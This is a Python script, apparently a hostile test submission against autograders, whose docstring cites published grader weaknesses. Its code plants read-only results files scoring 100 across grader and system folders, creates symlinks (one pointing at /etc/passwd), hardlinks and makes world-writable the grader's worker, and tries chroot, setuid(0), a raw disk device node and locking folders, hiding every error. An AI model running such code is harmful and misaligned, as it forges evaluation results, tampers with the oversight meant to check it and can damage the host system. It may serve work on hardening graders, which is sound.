"""Writes read-only files wherever it can, creates links and folders, and changes modes and owners.

Published against graders that write their results after the submission into a folder that it can write to: Gradema
(its page on security: a results file made read-only), CMS (cms-dev/cms issue 376: a link with the name of the output
file, through which the judge writes) and Submitty (pull request 6732: links in submissions are followed).

deserves: 10
"""

import contextlib
import os

FOLDERS = "/ /dev /dev/shm /opt /opt/course/tam570 /opt/grader/inside /root /var/tmp /usr/lib /proc /sys . .. /scratch /tmp"
FOLDERS += f" /autograder/results /grade/results /output {os.path.dirname(os.__file__)} {os.path.expanduser('~')}"
NAMES = "tam570-was-here results.json results.jsonl results.txt res.txt output.txt grades.csv feedback"
WORKER = "/opt/grader/inside/worker.py"


def lock(path):
    with open(path, "w") as file:
        file.write("100\n")
    os.chmod(path, 0o400)


ACTIONS = (
    lock,
    lambda path: os.symlink("output.txt", path + ".new"),
    lambda path: os.symlink("/tmp/tam570-was-here", path + ".link"),
    lambda path: os.makedirs(path + ".d/" + os.path.basename(path)),
)
for folder in FOLDERS.split():
    for name in NAMES.split():
        for action in ACTIONS:
            with contextlib.suppress(OSError):
                action(os.path.join(folder, name))
for action in (
    lambda: os.symlink("/etc/passwd", "/tmp/results.jsonl"),
    lambda: os.link(WORKER, "/tmp/worker.py"),
    lambda: os.chmod(WORKER, 0o777),
    lambda: os.chown("/tmp", 0, 0),
    lambda: os.chroot("/tmp"),
    lambda: os.setuid(0),
    lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0)),
    *(lambda folder=folder: os.chmod(folder, 0o500) for folder in FOLDERS.split()),
):
    with contextlib.suppress(OSError):
        action()
